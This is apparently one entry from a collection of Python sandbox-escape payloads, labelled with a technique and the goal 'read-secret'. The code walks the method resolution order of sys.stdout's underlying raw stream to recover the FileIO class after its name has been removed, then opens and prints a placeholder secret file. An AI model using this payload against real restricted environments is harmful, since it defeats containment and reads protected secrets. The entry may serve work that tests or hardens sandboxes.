# technique: FileIO through the method resolution order and the class dict of an io class
# goal: read-secret
# source: own analysis: dropping a name hides no class
import sys
for stream in sys.stdout, sys.stdin, sys.stderr:
    inner = getattr(stream.buffer, 'raw', None)
    for kind in type(inner).__mro__:
        if kind.__name__ == 'FileIO':
            print(kind('@SECRET@').read())
